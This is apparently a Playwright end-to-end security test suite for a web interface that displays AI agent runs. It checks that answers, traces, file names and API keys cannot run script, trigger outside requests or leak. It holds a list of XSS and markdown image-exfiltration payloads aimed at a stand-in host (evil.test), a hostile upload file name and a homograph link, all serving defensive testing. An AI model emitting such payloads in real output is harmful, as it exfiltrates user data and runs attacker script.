"""What an answer, a trace or a file name may not do to the page, and where secrets may not be."""

import json
from pathlib import Path

import pytest
from playwright.async_api import expect

from tests.e2e.browser import OpenedPage, storage_of
from tests.e2e.page_mock import MockApi
from tests.e2e.page_scenes import Scene, call, document, plain_scene

pytestmark = pytest.mark.asyncio(loop_scope="module")

CANARY = "sk-canary-4f1d0c52"
EVIL = "https://evil.test"
PAYLOADS = [
    f"![x]({EVIL}/p.png?d=SECRET)",
    f"![x][r]\n\n[r]: {EVIL}/p.png",
    f"[![x]({EVIL}/a.png)]({EVIL}/b)",
    f'<img src="{EVIL}/a.png" onerror="window.hacked=1">',
    "<img src=x onerror=window.hacked=1>",
    f'<picture><source srcset="{EVIL}/a.png"><img src="{EVIL}/b.png"></picture>',
    "<script>window.hacked=1</script>",
    f'<script src="{EVIL}/a.js"></script>',
    f'<iframe src="{EVIL}"></iframe>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    f'<svg onload="window.hacked=1"><image href="{EVIL}/a.svg"/></svg>',
    f'<svg><use href="{EVIL}/a.svg#x"/></svg>',
    f'<link rel="stylesheet" href="{EVIL}/a.css">',
    f'<link rel="prefetch" href="{EVIL}/a">',
    f'<style>@import url("{EVIL}/a.css"); body {{ background: url({EVIL}/b) }}</style>',
    f'<div style="background:url({EVIL}/c)">x</div>',
    f'<video autoplay poster="{EVIL}/p.png" src="{EVIL}/v.mp4"></video>',
    f'<audio autoplay src="{EVIL}/a.mp3"></audio>',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<meta http-equiv="refresh" content="0; url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><button autofocus>x</button></form>',
    "[click](javascript:window.hacked=1)",
    "[click](JaVaScRiPt&colon;window.hacked=1)",
    "<javascript:window.hacked=1>",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    f'```mermaid\ngraph TD; A-->B; click A href "{EVIL}"\n```',
    f'```html\n<img src="{EVIL}/fence.png">\n```',
    f"$$\\href{{{EVIL}}}{{x}} \\includegraphics{{{EVIL}/l.png}}$$",
    f"$\\url{{{EVIL}}}$ \\(\\class{{x}}{{y}}\\)",
    f"<details open ontoggle=window.hacked=1><summary>{EVIL}</summary></details>",
    f"Footnote[^1]\n\n[^1]: ![x]({EVIL}/f.png)",
    f"| a |\n|---|\n| ![x]({EVIL}/t.png) |",
    f"<{EVIL}/autolink> and {EVIL}/bare and www.evil.test",
    "<math><mi xlink:href=javascript:window.hacked=1>x</mi></math>",
    "<x-element is=script>window.hacked=1</x-element>",
]


def hostile_scene(payload: str) -> Scene:
    """The payload in every place where text of unknown origin is shown."""
    made = call("c1", "search_knowledge_base", query=payload)
    source = document(1, payload, payload, cited=True)
    web = {"n": 2, "kind": "web", "title": payload, "url": payload, "quote": payload}
    scene = Scene().start().step(1).reply(1, made, text=payload).call_starts(made)
    scene.event(
        "egress_started",
        n=1,
        method="GET",
        host=payload,
        path=payload,
        bytes_out=1,
        why=payload,
        permission="web",
    )
    scene.call_ends(made, payload, sources=[source, web], coerced=[payload])
    scene.event("guardrail_objected", guardrail=payload, text=payload)
    return scene.finish(payload, explanation=payload, sources=[source, web], unsupported=[payload])


async def test_no_payload_makes_a_request_or_runs(tab: OpenedPage, mock: MockApi) -> None:
    for n, payload in enumerate(PAYLOADS):
        mock.add_run(f"h{n}", hostile_scene(payload), question=payload)
    everything = "\n\n".join(PAYLOADS)
    mock.add_run("all", hostile_scene(everything), question=everything)
    for run in mock.runs:
        await tab.goto(f"/runs/{run}")
        await tab.page.locator(".status-line").wait_for()
        await tab.page.locator("#step-1 .row-line").first.click()
        for name in ("Left", "Events", "Sources"):
            await tab.page.get_by_role("tab", name=name).click()
        await tab.painted()
        assert await tab.page.evaluate("() => window.hacked") is None, run
        assert tab.page.url.startswith(f"{tab.base_url}/runs/{run}")
        loading = await tab.page.locator(
            "#page :is(img, iframe, script, svg, style, link, video, audio, object, embed, base)"
        ).count()
        assert loading == 0, run
    assert tab.foreign_requests() == []
    assert tab.complaints == []
    assert len(mock.runs) > 30


async def test_a_streamed_answer_is_held_to_the_same(tab: OpenedPage, mock: MockApi) -> None:
    scene = Scene().start().step(1)
    text = "\n\n".join(PAYLOADS)
    for at in range(0, len(text), 25):
        scene.live("text_delta", 0.005, text=text[at : at + 25])
    mock.scene = scene.reply(1, text=text).finish(text)
    await tab.goto("/")
    await tab.ask("x")
    await tab.ended()
    assert await tab.page.evaluate("() => window.hacked") is None
    assert tab.foreign_requests() == []


async def test_a_link_shows_its_host_and_opens_on_a_click_alone(
    tab: OpenedPage, mock: MockApi
) -> None:
    mock.add_run("one", plain_scene("[the bank](https://аpple.com/login)"), question="x")
    await tab.goto("/runs/one")
    link = tab.page.get_by_role("link", name="the bank")
    await expect(link).to_contain_text("xn--pple-43d.com")
    assert await link.get_attribute("rel") == "noreferrer noopener nofollow"
    await link.hover()
    assert tab.foreign_requests() == []
    await tab.page.context.route("**/*", lambda route: route.fulfill(body="the bank"))
    async with tab.page.context.expect_page() as opened:
        await link.click()
    bank = await opened.value
    await expect(bank.get_by_text("the bank")).to_be_visible()
    assert await bank.evaluate("() => window.opener") is None
    assert [url.split("/")[2] for url in tab.foreign_requests()] == ["xn--pple-43d.com"]
    tab.requested.clear()


async def test_an_image_is_a_chip_that_copies_its_address(tab: OpenedPage, mock: MockApi) -> None:
    mock.add_run("one", plain_scene(f"![chart]({EVIL}/p.png?d=SECRET)"), question="x")
    await tab.goto("/runs/one")
    await tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    await tab.page.get_by_role("button", name="image at evil.test, not loaded chart").click()
    await expect(tab.page.get_by_text("Image address copied")).to_be_visible()
    copied = await tab.page.evaluate("() => navigator.clipboard.readText()")
    assert copied == f"{EVIL}/p.png?d=SECRET"


async def test_file_names_and_results_of_an_upload_are_text(
    tab: OpenedPage, mock: MockApi, tmp_path: Path
) -> None:
    hostile = tmp_path / "<img src=x onerror=hacked=1>\u202etxt.md"
    hostile.write_text("x")
    await tab.goto("/knowledge")
    await tab.page.get_by_label("Add files to handbook").set_input_files(hostile)
    results = tab.page.get_by_role("status").filter(has_text="added")
    await expect(results).to_contain_text("<img src=x onerror=hacked=1>⟨U+202E⟩txt.md")
    assert await tab.page.evaluate("() => window.hacked") is None


async def test_a_failed_file_says_why(tab: OpenedPage, tmp_path: Path) -> None:
    files = [tmp_path / "good.md", tmp_path / "scan.broken.pdf"]
    for file in files:
        file.write_text("x")
    await tab.goto("/knowledge")
    await tab.page.get_by_label("Add files to handbook").set_input_files(files)
    results = tab.page.get_by_role("status").filter(has_text="added")
    await expect(results).to_contain_text("good.md — added")
    await expect(results).to_contain_text("failed: the file has no readable page")


async def test_the_token_is_asked_for_once_and_stays_in_this_tab(
    tab: OpenedPage, mock: MockApi
) -> None:
    mock.token = CANARY
    mock.config["token_required"] = True
    await tab.goto("/")
    dialog = tab.page.get_by_role("dialog")
    await dialog.get_by_label("Token").fill("wrong")
    await tab.page.keyboard.press("Enter")
    await expect(dialog).to_contain_text("did not accept that token")
    await dialog.get_by_label("Token").fill(CANARY)
    await tab.page.keyboard.press("Enter")
    await expect(dialog).to_have_count(0)
    await expect(tab.page.get_by_role("button", name="Model: qwen3:8b")).to_be_visible()
    await tab.page.reload()
    await expect(tab.page.get_by_role("button", name="Model: qwen3:8b")).to_be_visible()
    assert CANARY not in await storage_of(tab.page)
    assert not any(CANARY in url for url in tab.requested)
    tab.complaints = [line for line in tab.complaints if "401" not in line]


async def test_a_late_refusal_of_an_older_request_does_not_ask_for_the_token_again(
    tab: OpenedPage, mock: MockApi
) -> None:
    mock.token = CANARY
    mock.held.add("GET /api/runs")
    await tab.goto("/")
    dialog = tab.page.get_by_role("dialog")
    await dialog.get_by_label("Token").fill(CANARY)
    await tab.page.keyboard.press("Enter")
    await expect(tab.page.get_by_role("button", name="Model: qwen3:8b")).to_be_visible()
    async with tab.page.expect_response(lambda response: response.status == 401):
        mock.held.clear()
    await tab.painted()
    await expect(dialog).to_have_count(0)
    tab.complaints = [line for line in tab.complaints if "401" not in line]


@pytest.mark.parametrize("keep", [True, False])
async def test_the_open_webui_key_goes_in_a_header_and_nowhere_else(
    tab: OpenedPage, mock: MockApi, keep: bool
) -> None:
    mock.config["knowledge_provider"] = "open-webui"
    mock.scene = plain_scene()
    await tab.goto("/settings")
    await tab.page.get_by_label("Your Open WebUI API key").fill(CANARY)
    box = tab.page.get_by_label("Keep it until this tab is closed")
    await box.set_checked(keep)
    await tab.page.get_by_role("button", name="Use this key").click()
    await expect(tab.page.get_by_text("The key is in use.")).to_be_visible()
    await tab.page.get_by_role("link", name="New question").first.click()
    await tab.ask("x")
    await tab.ended()
    await tab.page.reload()
    await tab.ended()
    [sent] = mock.requests_to("/api/runs")
    assert sent["headers"]["x-open-webui-key"] == CANARY
    assert CANARY.encode() not in sent["body"]
    for request in mock.requests:
        carries = CANARY in json.dumps(request["headers"])
        assert not carries or request["path"].startswith(("/api/runs", "/api/knowledge"))
        assert CANARY not in request["path"] + request["query"]
    assert CANARY not in await storage_of(tab.page)
    assert (CANARY in await tab.page.evaluate("() => JSON.stringify(sessionStorage)")) is keep
    assert CANARY not in await tab.page.content()
    assert not any(CANARY in url for url in tab.requested)


async def test_no_key_field_where_knowledge_is_local(tab: OpenedPage) -> None:
    await tab.goto("/settings")
    await expect(tab.page.get_by_text("0.1.0")).to_be_visible()  # the configuration is there
    await expect(tab.page.get_by_label("Your Open WebUI API key")).to_have_count(0)
